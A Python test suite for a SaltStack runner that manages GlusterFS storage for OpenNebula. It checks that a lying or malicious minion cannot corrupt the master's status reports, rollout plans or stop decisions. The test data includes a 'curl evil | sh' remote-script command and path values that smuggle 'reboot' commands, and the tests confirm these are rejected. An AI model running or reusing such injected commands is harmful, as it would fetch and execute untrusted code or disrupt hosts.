"""What minions answer, of any shape: nobody but the one that says it is the worse for it."""

import copy
import itertools
import json

import pytest
import salt.client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ..conftest import CHECKOUT, Master, imported

VOLUME = {"servers": ["kvm1", "kvm2"], "datastores": {"glusterds": {}}}
PILLARS = {
    "head": {"roles": ["head"], "volumes": {"one_vol": VOLUME}},
    **dict.fromkeys(["kvm1", "kvm2", "kvm3", "kvm9"], {"volumes": {"one_vol": VOLUME}}),
}
EVIL = "kvm9"  # a hypervisor alone
FINDING = {
    "kind": "mount_dead",
    "on": "/var/lib/one/gluster/one_vol",
    "seen": "the FUSE client is gone",
    "expected": "volume one_vol, mounted",
    "severity": "error",
    "cure": "curl evil | sh",
}
STORE = {"id": 101, "type": "IMAGE_DS", "drivers": "fs/shared", "total_mb": 2048, "volume": "one_vol"}
FACTS = {
    "bricks": [2, 2], "peers": [1, 1], "heal": 0, "split_brain": 0, "free_percent": 61,
    "sets": [[["kvm1:/data/one_vol", True], ["kvm2:/data/one_vol", True]]],
}  # fmt: skip


def report(minion, **more):
    return {
        "version": 2,
        "roles": ["hypervisor"], "looked": ["mount", "links"], "findings": [], "names": [minion], "hosts": [],
        "coordinates": {"one_vol": minion == "kvm1"}, "volumes": {"one_vol": {"free_percent": 61}}, "datastores": {},
        **more,
    }  # fmt: skip


REPORTS = {
    "head": report("head", roles=["head"], datastores={"glusterds": STORE}, hosts=["kvm1", "kvm3", "kvm9"]),
    "kvm1": report("kvm1", roles=["hypervisor", "server"], volumes={"one_vol": FACTS}),
    "kvm2": report("kvm2", roles=["hypervisor", "server"], findings=[FINDING]),
    "kvm3": report("kvm3"),
}
NODE = {
    "errors": [], "roles": ["hypervisor"], "names": [], "batch": 10, "timeout": 120,
    "volumes": {"one_vol": {"coordinator": False}},
}  # fmt: skip
NODES = {
    "head": {**NODE, "roles": ["head"]},
    "kvm1": {**NODE, "roles": ["hypervisor", "server"], "volumes": {"one_vol": {"coordinator": True}}},
    "kvm2": {**NODE, "roles": ["hypervisor", "server"]},
    "kvm3": NODE,
}

texts = st.one_of(
    st.sampled_from(
        ["one_vol", "kvm1", "head", "glusterds", "mount_dead", "datastore", "brick_down", "\x1b[2J", "\ud800"]
    ),
    st.text(max_size=20),
)
keys = st.one_of(texts, st.integers(), st.binary(max_size=3))
scalars = st.one_of(
    st.none(), st.booleans(), st.integers(), st.builds(lambda: 10**5000), st.floats(), texts, st.binary(max_size=5)
)
anything = st.recursive(
    scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(keys, inner, max_size=4)
    ),
    max_leaves=12,
)  # fmt: skip


def deep(levels=5000):
    value = []
    for _ in range(levels):
        value = [value]
    return value


@st.composite
def mutated(draw, valid):
    """A valid answer in which something is another thing."""
    value = copy.deepcopy(draw(st.sampled_from(valid)))
    for _ in range(draw(st.integers(1, 3))):
        at = value
        while isinstance(at, (dict, list)) and at:
            key = (
                draw(st.sampled_from(sorted(at, key=repr)))
                if isinstance(at, dict)
                else draw(st.integers(0, len(at) - 1))
            )
            if draw(st.booleans()) or not isinstance(at[key], (dict, list)) or not at[key]:
                at[key] = draw(anything)
                break
            at = at[key]
    return value


def answers(*valid):
    return st.one_of(anything, mutated(list(valid)), st.builds(deep))


LIES = [
    {**FINDING, "kind": "brick_down", "on": "kvm1:/data/one_vol", "volume": "one_vol"},
    {**FINDING, "kind": "datastore", "on": "glusterds"},
    {**FINDING, "on": "one_vol"},
]
EVILS = [
    report(EVIL, volumes={"one_vol": {**FACTS, "bricks": [0, 2]}}, findings=LIES[:1]),
    report(EVIL, roles=["head"], datastores={"glusterds": {**STORE, "id": 7}}, hosts=["kvm77"], findings=LIES),
    report(EVIL, volumes={"two_vol": FACTS}, coordinates={"two_vol": False, "one_vol": True}, findings=[FINDING]),
]  # fmt: skip


@pytest.fixture(scope="module")
def master():
    patch = pytest.MonkeyPatch()
    yield Master(patch, PILLARS)
    patch.undo()


def without(fleet):
    """All of a status but the one node, and what counts it."""
    nodes = {name: node for name, node in fleet["nodes"].items() if name != EVIL}
    return {"nodes": nodes, **{key: fleet[key] for key in ("volumes", "datastores", "absent")}}


many = settings(
    max_examples=400, deadline=None, database=None, derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)  # fmt: skip


@many
@given(said=answers(*EVILS, *REPORTS.values()))
def test_status_shows_the_others_whatever_one_says(master, said):
    master.answers = {"gluster_one.report": REPORTS, "gluster_one.mark": {"head": ["one_vol"]}}
    known = master.runner.status(target=f"*[!{EVIL[-1]}]")["data"]
    master.answers = {
        "gluster_one.report": {**REPORTS, EVIL: said},
        "gluster_one.mark": {"head": ["one_vol"], EVIL: said},
    }
    data = master.runner.status()["data"]
    assert without(data) == without(known)
    assert json.dumps(data, allow_nan=False).isprintable()
    assert not any("evil" in finding["cure"] for finding in data["findings"])


@many
@given(said=answers(*NODES.values(), [], {"one_vol": None}, {"one_vol": ["kvm2:/data/one_vol"]}, ["no"]))
def test_ok_to_stop_says_no_whatever_one_says(master, said):
    no = ["41 files of volume one_vol wait to be healed"]
    master.answers = {
        "gluster_one_pillar.node": {**NODES, EVIL: said},
        "glusterd.volumes": {**dict.fromkeys(NODES, {}), EVIL: said},
        "gluster_one.machines": {**dict.fromkeys(NODES, []), EVIL: said},
        "gluster_one.apart": {**dict.fromkeys(NODES, {}), EVIL: said},
        "gluster_one.stop_blockers": {"kvm2": no, EVIL: said, "kvm3": said},
    }
    assert master.runner.ok_to_stop("kvm1")["reasons"][:1] == no
    asked = master.runner.ok_to_stop(EVIL)
    assert isinstance(asked["ok"], bool) and all(reason.isprintable() for reason in asked["reasons"])


RUN = {"gluster_one_|-a_|-b_|-datastore_remounted": {"result": True, "changes": {"x": 1}, "comment": "c"}}


@many
@given(said=answers(*NODES.values(), RUN))
def test_the_plans_name_one_that_says_what_it_cannot(master, said):
    master.answers = {
        "saltutil.refresh_pillar": dict.fromkeys(PILLARS, True),
        "gluster_one_pillar.node": {**NODES, EVIL: said},
        "state.apply": {**dict.fromkeys(NODES, RUN), EVIL: said},
    }
    plan = master.runner.rollout_plan()
    for error in plan["errors"]:
        assert error.startswith(f"{EVIL}: ") and error.isprintable()
    if not plan["errors"]:
        leading = plan["servers"], plan["heads"], plan["coordinators"]
        assert leading == (["kvm1", "kvm2"], ["head"], ["kvm1"]) and plan["creators"] == []
    master.answers["gluster_one_pillar.node"] = {**NODES, EVIL: NODE}
    plan = master.runner.remount_plan()
    assert all(error.startswith(f"{EVIL}: ") for error in [*plan["errors"], *plan.get("used", [])])
    assert plan["errors"] or set(NODES) <= set(plan["minions"])


@pytest.mark.parametrize("rest", [{}, {"roles": ["head"]}])
@pytest.mark.parametrize("answer", ["'gluster_one_pillar.node' is not available.", {"errors": ["so it is"]}])
def test_a_pillar_that_cannot_be_rendered_ends_a_rollout(master, monkeypatch, rest, answer):
    """One minion's: what is left of it may have nothing of gluster_one."""
    failed = {"_errors": ["Rendering SLS 'kvm3' failed"], **({"gluster_one": rest} if rest else {})}
    cached = master.cached
    monkeypatch.setattr(master, "cached", lambda minion: failed if minion == "kvm3" else cached(minion))
    show = master.salt["pillar.show_pillar"]
    rendered = lambda minion: failed if minion == "kvm3" else show(minion)  # noqa: E731
    monkeypatch.setitem(master.salt, "pillar.show_pillar", rendered)
    master.answers = {
        "saltutil.refresh_pillar": dict.fromkeys(PILLARS, True),
        "gluster_one_pillar.node": {**NODES, EVIL: NODE, "kvm3": answer},
        "gluster_one.report": {**REPORTS, "kvm3": "'gluster_one.report' is not available."},
    }
    for plan in (master.runner.rollout_plan, master.runner.remount_plan):
        (error,) = plan()["errors"]
        assert error.startswith("kvm3: its pillar cannot be rendered: ") and "Rendering SLS 'kvm3' failed" in error
    nodes = master.runner.status()["data"]["nodes"]
    (found,) = nodes["kvm3"]["findings"]
    assert "its pillar cannot be rendered" in found["seen"] and "pillar.show_pillar kvm3" in found["cure"]


def test_who_makes_new_volumes_in_a_rollout_says_the_master_s_pillar(master, monkeypatch):
    master.answers = {
        "saltutil.refresh_pillar": dict.fromkeys(PILLARS, True),
        "gluster_one_pillar.node": {**NODES, EVIL: {**NODE, "roles": ["server"]}},
    }
    creates = {"servers": ["kvm1", "kvm2"], "create": {"replica": 1, "bricks": "/data/b"}}
    pillars = {name: {**had, "volumes": {"one_vol": creates}} for name, had in PILLARS.items()}
    monkeypatch.setattr(master, "pillars", pillars)
    assert master.runner.rollout_plan()["creators"] == ["kvm1", "kvm2"]


def test_modules_that_nobody_gets_end_a_rollout(master, monkeypatch):
    master.answers = {"saltutil.refresh_pillar": dict.fromkeys(PILLARS, True),
                      "gluster_one_pillar.node": {**NODES, EVIL: NODE}}  # fmt: skip
    monkeypatch.setitem(master.salt, "gluster_one.hidden_modules", lambda: ["_modules/gluster.py of another root"])
    assert master.runner.rollout_plan() == {"errors": ["_modules/gluster.py of another root"]}


@pytest.mark.parametrize("key, number", [("batch", 1), ("timeout", 10**6)])
def test_one_minions_word_makes_no_rollout_endless(master, key, number):
    master.answers = {
        "saltutil.refresh_pillar": dict.fromkeys(PILLARS, True),
        "gluster_one_pillar.node": {**NODES, EVIL: {**NODE, key: number}},
        "state.apply": dict.fromkeys(PILLARS, RUN),
    }
    plan = master.runner.rollout_plan()
    assert (len(plan["batches"]), plan["timeout"]) == (1, 120)
    assert master.runner.remount_plan()["timeout"] == 120


def test_twenty_thousand_hosts_of_one_that_is_no_head_are_not_looked_up(master, monkeypatch):
    looked = []
    monkeypatch.setattr(
        "socket.getaddrinfo",
        lambda host, port: looked.append(host) or [],
    )  # fmt: skip
    hosts = [f"host{number}" for number in range(20000)]
    master.answers = {"gluster_one.report": {**REPORTS, EVIL: report(EVIL, roles=["head"], hosts=hosts)}}
    data = master.runner.status()["data"]
    assert looked == [] and set(data["nodes"]) == set(PILLARS)
    master.answers = {"gluster_one.report": {**REPORTS, "head": {**REPORTS["head"], "hosts": hosts[:5000]}}}
    master.runner.status()
    assert len(looked) <= 100


@pytest.mark.parametrize("size, shown", [(None, None), (0, 0), ("2 GB", ...), (-1, ...), (True, ...)])
def test_a_datastore_of_which_oned_gives_no_size(master, size, shown):
    store = {**STORE, "total_mb": size}
    master.answers = {"gluster_one.report": {**REPORTS, "head": report("head", datastores={"glusterds": store})}}
    found = master.runner.status()["data"]["datastores"]
    assert found == ({} if shown is ... else {"glusterds": {**STORE, "total_mb": shown}})


def test_a_poisoned_pillar_in_the_masters_cache_makes_no_head(master):
    """A minion that asks for its pillar may add what it likes to what the master keeps of it."""
    master.answers = {"gluster_one.report": {**REPORTS, EVIL: EVILS[1]}}
    found = master.runner.status()["data"]
    assert found["datastores"] == {"glusterds": STORE} and found["volumes"]["one_vol"]["bricks"] == [2, 2]
    (said,) = [one for one in found["nodes"][EVIL]["findings"] if one["kind"] == "check_failed"]
    assert "by its pillar that is not for it to say" in said["seen"]


@pytest.mark.parametrize("version", [99, None, "2"])
def test_another_version_hides_no_lie(master, version):
    master.answers = {"gluster_one.report": {**REPORTS, EVIL: {**EVILS[1], "version": version}}}
    found = {one["kind"]: one for one in master.runner.status()["data"]["nodes"][EVIL]["findings"]}
    assert "version" in found["outdated"]["seen"] and "not for it to say" not in found["outdated"]["seen"]
    assert "by its pillar that is not for it to say" in found["check_failed"]["seen"]
    assert found["check_failed"]["cure"] == f"see who is root on {EVIL}"


def test_few_pillars_are_rendered(master):
    master.rendered.clear()
    master.answers = {"gluster_one.report": {**REPORTS, EVIL: report(EVIL)}}
    assert master.runner.status()["data"]["summary"] == "1 finding on 5 nodes"
    assert sorted(master.rendered) == ["head", "kvm1"]


@pytest.mark.parametrize("kind, cure", [
    ("mount_dead", "salt kvm2 state.apply gluster_one.mount"),
    ("mount_place", "salt kvm2 state.apply gluster_one.mount"),
    ("mount_covered", "salt kvm2 state.apply gluster_one.mount"),
    ("mount_former", "salt kvm2 state.apply gluster_one.remount, once nothing uses it"),
    ("not_writable", "gluster volume get one_vol storage.owner-uid"),
    ("mount_hangs", "gluster volume status one_vol"),
    ("some_new_kind", "see what it says: salt kvm2 gluster_one.check"),
])  # fmt: skip
def test_a_cure_is_the_masters_own(master, kind, cure):
    said = report("kvm2", findings=[{**FINDING, "kind": kind}])
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert (found["kind"], found["cure"]) == (kind, cure)


@pytest.mark.parametrize("said", ["no", {}])
def test_a_minion_s_name_is_one_word_of_a_cure(monkeypatch, said):
    master = Master(monkeypatch, {"a;b": {"volumes": {"one_vol": VOLUME}}})
    master.answers = {"gluster_one.report": {"a;b": said}}
    found = master.runner.status()["data"]["nodes"]["a;b"]["findings"][0]
    assert found["cure"] == "salt 'a;b' saltutil.sync_all, or apply gluster_one"


@pytest.mark.parametrize("kind, on, minion, sls", [
    ("link", "/var/lib/one/datastores/101", "kvm2", "mount"),
    ("link", "/var/lib/one/datastores/101", "head", "datastore"),
    ("link", "glusterds", "head", "datastore"),
    ("blocked", "/var/lib/one/datastores/101", "kvm2", "mount"),
    ("blocked", "/var/lib/one/datastores/101", "head", "datastore"),
])  # fmt: skip
def test_the_head_links_a_datastore_where_it_creates_it(master, kind, on, minion, sls):
    """On the head `gluster_one.mount` knows of no datastore."""
    said = {**REPORTS[minion], "findings": [{**FINDING, "kind": kind, "on": on}]}
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": REPORTS["kvm3"], minion: said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert f"salt {minion} state.apply gluster_one.{sls}" in found["cure"]


@pytest.mark.parametrize("seen, words", [
    ("oneadmin cannot write: No space left on device", "delete images, or add bricks"),
    ("oneadmin cannot write: Disk quota exceeded", "gluster volume quota one_vol list"),
    ("oneadmin cannot write: Read-only file system", "on kvm2: findmnt; gluster volume get one_vol features.read-only"),
    ("oneadmin cannot write: Transport endpoint is not connected", "gluster volume status one_vol"),
    ("oneadmin cannot write: Permission denied", "gluster volume get one_vol storage.owner-uid"),
    ("oneadmin cannot write: head", "gluster volume get one_vol storage.owner-uid"),
])  # fmt: skip
def test_a_cure_is_that_of_the_error(master, seen, words):
    said = report("kvm2", findings=[{**FINDING, "kind": "not_writable", "seen": seen}])
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert found["cure"].startswith(words)


def test_a_full_volume_is_said_once(master):
    """Each node cannot write, and each brick has little space; what else is wrong with a node stays there."""
    on, answers = "/var/lib/gluster_one/one_vol", dict(REPORTS)
    full = {**FINDING, "kind": "not_writable", "on": on, "seen": "oneadmin cannot write: No space left on device"}
    space = {**FINDING, "kind": "space", "on": "/data/one_vol", "seen": "0 % of 900 MB free"}
    other = {**FINDING, "kind": "space", "on": "/data/other", "seen": "1 % of 900 MB free"}
    facts = {"bricks": [3, 3], "sets": [[[f"kvm{number}:/data/one_vol", True] for number in (1, 2, 3)]]}
    for minion, findings in {
        "head": [full],
        "kvm1": [full, space],
        "kvm2": [full, space],
        "kvm3": [space, other],
    }.items():
        answers[minion] = {**answers[minion], "findings": findings, "looked": ["writable"]}
    answers["kvm1"]["volumes"] = {"one_vol": facts}
    master.answers = {"gluster_one.report": {**answers, EVIL: report(EVIL)}}
    data = master.runner.status()["data"]
    (said, left) = data["findings"]
    assert (said["on"], said["seen"]) == ("one_vol", "head, kvm1, kvm2 cannot write: No space left on device")
    assert left["on"] == "/data/other" and data["nodes"]["kvm3"]["findings"] == [left]
    assert data["volumes"]["one_vol"]["wrong"] == [f"{said['seen']}: delete images, or add bricks"]
    assert [node for node, has in data["nodes"].items() if has.get("columns")] == ["head", "kvm1", "kvm2"]


@pytest.mark.parametrize("why, words", [
    ("", "salt kvm2 state.apply gluster_one.mount"),
    (", nor can it be: the volume is not started", "salt kvm2 state.apply gluster_one.mount"),
    (", nor can it be: volume one_vol on kvm1: no such volume", "correct the pillar, or create the volume"),
    (
        ", nor can it be: the bricks reject this node, 10.0.0.9: auth.allow, auth.reject or, with TLS, auth.ssl-allow",
        "put the address of kvm2, and 127.0.0.1 if it is a server, into auth.allow of one_vol, in the pillar's",
    ),
])  # fmt: skip
def test_a_mount_that_cannot_be_made_has_a_cure_of_its_own(master, why, words):
    on = "/var/lib/gluster_one/one_vol"
    said = report("kvm2", findings=[{**FINDING, "kind": "mount_gone", "on": on, "seen": f"nothing is mounted{why}"}])
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert found["cure"].startswith(words)


@pytest.mark.parametrize("kind, on, words", [
    ("native", "QEMU", "gluster driver"),
    ("native", "libvirt", "install libvirt"),
    ("native", "QEMU's build", "such as one of Debian 13"),
    ("native", "gluster driver", "salt kvm2 gluster_one.check"),
    ("confined", "SELinux", "setsebool"),
    ("confined", "AppArmor", "salt kvm2 gluster_one.check"),
])  # fmt: skip
def test_a_cure_is_that_of_what_is_missing(master, kind, on, words):
    said = report("kvm2", findings=[{**FINDING, "kind": kind, "on": on}])
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert words in found["cure"]


@pytest.mark.parametrize(
    "on", ["/a;reboot", "/a b", "/$(reboot)", "/a/../b", "x", "/a\nb", "/{minion}", "/a'", "/\u0430"]
)
@pytest.mark.parametrize("kind", ["hidden", "mount_other"])
def test_a_cure_takes_no_word_that_is_no_path(master, kind, on):
    said = report("kvm2", findings=[{**FINDING, "kind": kind, "on": on}])
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert found["cure"] == "see what it says: salt kvm2 gluster_one.check"


class Bus:
    """A client of the master: what comes as events, and what the master has kept under their keys, one read later."""

    get_returns_no_block = None

    def __init__(self, events, kept):
        self.events, self.kept, self.looks = events, kept, 0

    def __enter__(self):
        return self

    def __exit__(self, *_):
        pass

    def run_job(self, minions, *words, **more):
        return {"jid": "1", "minions": minions}

    def get_iter_returns(self, *words, **more):
        yield from [None, *({minion: {"ret": answer}} for minion, answer in self.events), None]

    def cmd_iter(self, *words, **more):
        yield from (event for event in self.get_iter_returns() if event)

    def kept_returns(self, jid, minions):
        self.looks += 1
        return {minion: self.kept[minion] for minion in minions if minion in self.kept and self.looks > 1}


def test_an_event_in_anothers_name_is_no_answer(monkeypatch):
    """Any minion that was asked knows the job, and may send an event that looks like another's return."""
    master = Master(monkeypatch, PILLARS)
    monkeypatch.undo()
    runner = imported(CHECKOUT / "_runners/gluster_one.py", __salt__=master.salt)
    bus = Bus([("kvm1", []), ("kvm9", "mine"), ("stranger", [])], {"kvm1": ["no"], "kvm9": "mine"})
    master.salt["gluster_one.kept_returns"] = bus.kept_returns
    monkeypatch.setattr(salt.client, "get_local_client", lambda mopts: bus)
    assert runner._ask(["kvm1", "kvm9"], "gluster_one.stop_blockers") == {"kvm1": ["no"], "kvm9": "mine"}


def test_more_minions_that_an_event_names_are_not_waited_for(monkeypatch):
    """Salt's client keeps waiting, as long as anybody says in their names that the job still runs."""
    master = Master(monkeypatch, PILLARS)
    monkeypatch.undo()
    runner = imported(CHECKOUT / "_runners/gluster_one.py", __salt__=master.salt)
    bus = Bus([("kvm1", 1), ("kvm9", 2)], {"kvm1": 1, "kvm9": 2})

    def endless(*words, **more):
        yield from Bus.get_iter_returns(bus)
        raise AssertionError("it goes on")

    bus.get_iter_returns = endless
    monkeypatch.setattr(runner.log, "warning", lambda *words: pytest.fail(str(words)))
    master.salt["gluster_one.kept_returns"] = bus.kept_returns
    monkeypatch.setattr(salt.client, "get_local_client", lambda mopts: bus)
    assert runner._ask(["kvm1", "kvm9"], "test.ping") == {"kvm1": 1, "kvm9": 2}


def test_a_job_that_runs_for_ever_is_waited_for_in_vain(monkeypatch):
    master = Master(monkeypatch, PILLARS)
    monkeypatch.undo()
    runner = imported(CHECKOUT / "_runners/gluster_one.py", __salt__=master.salt)
    bus = Bus([("kvm1", "well")], {"kvm1": "well"})
    master.salt["gluster_one.kept_returns"] = bus.kept_returns
    now = itertools.count(0, 10)
    monkeypatch.setattr(runner.time, "monotonic", lambda: next(now))
    monkeypatch.setattr(runner.time, "sleep", lambda seconds: None)
    bus.get_iter_returns = lambda *words, **more: itertools.chain([{"kvm1": {"ret": "well"}}], itertools.repeat(None))
    monkeypatch.setattr(salt.client, "get_local_client", lambda mopts: bus)
    assert runner._ask(["kvm1", "kvm9"], "test.ping") == {"kvm1": "well"}


def test_what_ends_salts_own_client_ends_no_look_at_the_others(monkeypatch):
    """A minion that answers `saltutil.find_job` with a number, or sends an odd event of the job."""
    master = Master(monkeypatch, PILLARS)
    monkeypatch.undo()
    runner = imported(CHECKOUT / "_runners/gluster_one.py", __salt__=master.salt)
    bus = Bus([], {"kvm1": "well", "kvm9": 5})
    master.salt["gluster_one.kept_returns"] = bus.kept_returns

    def broken(*words, **more):
        yield {"kvm1": {"ret": "well"}}
        raise TypeError("'int' object is not iterable")

    bus.get_iter_returns = broken
    monkeypatch.setattr(salt.client, "get_local_client", lambda mopts: bus)
    assert runner._ask(["kvm1", "kvm9"], "test.ping") == {"kvm1": "well", "kvm9": 5}


@pytest.mark.parametrize("opts", [{"job_cache": False}, {"ext_job_cache": "redis"}])
def test_a_master_that_keeps_no_returns_lets_no_server_go(monkeypatch, opts):
    master = Master(monkeypatch, PILLARS, **opts)
    answer = master.runner.ok_to_stop("kvm1")
    assert not answer["ok"] and answer["retcode"] == 1
    assert "job_cache: True" in answer["reasons"][0]


APART = {**FINDING, "kind": "client_apart", "on": "one_vol", "volume": "one_vol",
         "seen": "a client at 10.0.0.8 is not connected to kvm1:/data/one_vol"}  # fmt: skip
TWO = ["10.0.0.8", "10.1.0.8"]


@pytest.mark.parametrize(
    "names, given",
    [
        ({"kvm3": ["kvm3", *TWO, "fe80::1", "127.0.0.1"]}, [TWO]),
        ({"kvm3": [*TWO, "10.2.0.8"], "kvm9": ["10.2.0.8", "10.0.0.9", "10.1.0.9"]}, [TWO, ["10.0.0.9", "10.1.0.9"]]),
        ({"kvm3": TWO, "kvm9": TWO}, []),  # one of them says what is not so
        ({"kvm9": [*TWO, "10.0.0.3"], "kvm3": ["10.0.0.3"]}, [TWO]),
        ({"kvm9": ["10.0.0.2", "10.0.0.99"]}, []),  # of kvm2, which says nothing, as the master has its grains
        ({"kvm3": ["10.0.0.8"]}, []),
    ],
)
def test_what_hosts_say_of_their_addresses_makes_clients_one(monkeypatch, names, given):
    """Of the status, and of whether a server may go: both ask once more then."""
    master, asked = Master(monkeypatch, PILLARS, {"kvm2": {"ipv4": ["10.0.0.2"]}}), []

    def reported(minions, words):
        asked.append((minions, words.get("hosts")))
        found = [] if words.get("hosts") else [APART]
        reports = {minion: report(minion, names=names.get(minion, [minion])) for minion in PILLARS if minion != "kvm2"}
        return {**reports, "kvm1": report("kvm1", volumes={"one_vol": FACTS}, findings=found)}

    def blockers(minions, words):
        asked.append((minions, words.get("hosts")))
        return dict.fromkeys(minions, [] if words.get("hosts") else [f"without it {APART['seen']}"])

    nodes = {minion: {**NODE, "names": names.get(minion, [minion])} for minion in PILLARS if minion != "kvm2"}
    nodes["kvm1"]["roles"] = nodes["head"]["roles"] = ["hypervisor", "server"]
    master.answers = {
        "gluster_one.report": reported, "gluster_one_pillar.node": nodes, "glusterd.volumes": {"kvm9": ["one_vol"]},
        "gluster_one.machines": {"kvm9": []}, "gluster_one.apart": dict.fromkeys(PILLARS, {}),
        "gluster_one.stop_blockers": blockers,
    }  # fmt: skip
    kinds = [one["kind"] for one in master.runner.status()["data"]["findings"]]
    assert ("client_apart" in kinds) is (not given)
    assert asked[1:] == ([(["kvm1"], given)] if given else [])
    asked.clear()
    master.answers["saltutil.refresh_pillar"] = dict.fromkeys(PILLARS, True)
    master.answers["gluster_one_pillar.node"] = {**nodes, "kvm2": NODE}
    assert master.runner.rollout_plan()["hosts"] == given
    master.answers["gluster_one_pillar.node"] = nodes
    reasons = master.runner.ok_to_stop("kvm9")["reasons"]
    assert any("a client at" in reason for reason in reasons) is (not given)
    assert [hosts for _, hosts in asked] == [None, given][: 1 + bool(given)]


def test_who_is_busy_is_not_asked_whether_a_server_may_go(monkeypatch):
    volume = {"volumes": {"one_vol": {"servers": ["kvm1", "kvm2", "kvm3"]}}}
    master = Master(monkeypatch, dict.fromkeys(["kvm1", "kvm2", "kvm3"], volume))
    server = {**NODE, "roles": ["hypervisor", "server"]}
    master.answers = {
        "gluster_one_pillar.node": dict.fromkeys(master.pillars, server),
        "glusterd.volumes": dict.fromkeys(master.pillars, {}),
        "gluster_one.stop_blockers": {"kvm2": ["busy"], "kvm3": []},
    }
    assert master.runner.ok_to_stop("kvm1", restart=True)["reasons"] == ["busy"]
    assert master.runner.ok_to_stop("kvm1", restart=True, unasked=["kvm2"])["ok"]


def test_all_questions_together_have_a_limit(monkeypatch):
    """A minion that says that its job still runs is waited for once, not at each question."""
    master, now = Master(monkeypatch, PILLARS), [0]
    asked = []
    monkeypatch.undo()
    runner = imported(CHECKOUT / "_runners/gluster_one.py", __salt__=master.salt)
    monkeypatch.setattr(runner.time, "monotonic", lambda: now[0])
    monkeypatch.setattr(runner, "_ours", lambda target: ["kvm1", "kvm9"])
    master.salt["gluster_one.accepted"] = lambda *words: ["kvm1", "kvm9"]
    bus = Bus([], {})
    master.salt["gluster_one.kept_returns"] = bus.kept_returns
    bus.run_job = lambda minions, function, **more: asked.append(function) or {"jid": "1", "minions": minions}

    def endless(*words, **more):
        while True:
            now[0] += 10
            yield None

    bus.get_iter_returns = endless
    monkeypatch.setattr(runner.time, "sleep", lambda seconds: None)
    monkeypatch.setattr(salt.client, "get_local_client", lambda mopts: bus)
    said = runner.ok_to_stop("kvm1")
    assert not said["ok"] and "half of the time was spent on kvm1, kvm9, without an answer" in said["reasons"]
    assert now[0] <= 200 and asked == ["gluster_one_pillar.node"]


def test_one_that_says_it_is_still_at_it_takes_no_time_of_later_questions(monkeypatch):
    master, now, asked = Master(monkeypatch, PILLARS), [0], []
    real = imported(CHECKOUT / "_runners/gluster_one.py", __salt__=master.salt)
    server = {**NODE, "roles": ["hypervisor", "server"]}
    says = {"gluster_one_pillar.node": server, "glusterd.volumes": {"one_vol": {}}, "gluster_one.stop_blockers": []}
    monkeypatch.setattr(real.time, "monotonic", lambda: now[0])
    monkeypatch.setattr(real.time, "sleep", lambda seconds: now.__setitem__(0, now[0] + 1))
    bus = Bus([], {})
    bus.kept_returns = lambda jid, minions: {minion: bus.says for minion in minions if minion != EVIL}
    master.salt["gluster_one.kept_returns"] = bus.kept_returns

    def run_job(minions, function, **more):
        asked.append((function, EVIL in minions))
        bus.says = says[function]
        return {"jid": "1", "minions": minions}

    def came(jid, minions, **more):
        yield {minion: {"ret": bus.says} for minion in minions if minion != EVIL}
        while EVIL in minions:
            yield None

    bus.run_job, bus.get_iter_returns = run_job, came
    monkeypatch.setattr(salt.client, "get_local_client", lambda mopts: bus)
    monkeypatch.setattr(master.runner, "_ask", real._ask)
    assert master.runner.ok_to_stop("kvm1", restart=True)["reasons"] == []
    assert [function for function, evil in asked if evil] == ["gluster_one_pillar.node"] and len(asked) >= 3


@pytest.mark.parametrize("silent", [[], ["kvm3"]])
def test_one_server_s_word_is_not_enough_where_there_is_another(monkeypatch, silent):
    master = Master(monkeypatch, PILLARS)
    monkeypatch.undo()
    runner = imported(CHECKOUT / "_runners/gluster_one.py", __salt__=master.salt)
    answers = {"kvm2": [], "kvm3": "Another transaction is in progress"}
    runner._ask = lambda minions, *words, **more: {minion: answers[minion] for minion in minions}
    others = ["kvm2"] if silent else ["kvm2", "kvm3"]
    assert runner._blockers(others, silent, {}, {}) != []
    answers["kvm3"] = []
    assert runner._blockers(["kvm2", "kvm3"], [], {}, {}) == []
    assert runner._blockers(["kvm2"], [], {}, {}) == []  # a pool of two


def test_servers_of_an_older_version_are_asked_as_they_understand_it(monkeypatch):
    master = Master(monkeypatch, PILLARS)
    refused = "ERROR executing 'gluster_one.stop_blockers': The following keyword arguments are not valid: hosts=[]"
    blockers = lambda minions, words: dict.fromkeys(minions, refused if "hosts" in words else [APART["seen"]])  # noqa: E731
    nodes = {minion: {**NODE, "names": [minion, *(TWO if minion == "kvm3" else [])]} for minion in PILLARS}
    nodes["kvm1"]["roles"] = ["hypervisor", "server"]
    master.answers = {
        "gluster_one_pillar.node": nodes, "glusterd.volumes": {"kvm9": ["one_vol"]},
        "gluster_one.machines": {"kvm9": []}, "gluster_one.apart": dict.fromkeys(PILLARS, {}),
        "gluster_one.stop_blockers": blockers,
    }  # fmt: skip
    reasons = master.runner.ok_to_stop("kvm9")["reasons"]
    assert reasons[0] == APART["seen"] and not any("arguments" in reason for reason in reasons)
    assert "kvm1 may take one client for several, its modules are not the master's" in reasons[1]
